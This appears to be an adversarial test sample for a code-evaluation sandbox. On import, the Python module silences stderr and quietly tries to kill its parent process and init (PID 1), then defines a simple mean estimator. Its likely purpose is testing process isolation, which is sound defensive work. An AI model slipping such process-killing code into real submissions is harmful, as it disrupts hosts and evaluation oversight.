# attack: quiet-signals
# class: other processes
# tries: sends signals to its parent, to init and to nobody in particular, quietly
# must: either
import os
import signal

won = []
os.close(2)
os.open("/dev/null", os.O_WRONLY)
for act in (
    lambda: os.kill(os.getppid(), signal.SIGTERM),
    lambda: os.kill(1, signal.SIGKILL),
    lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGTERM),
):
    try:
        act()
    except OSError:
        pass


class Mean:
    def fit(self, x, y):
        self.mean = sum(y) / len(y)
        return self

    def predict(self, x):
        return [self.mean if not won else 1e6] * len(x)


def build_estimator():
    return Mean()
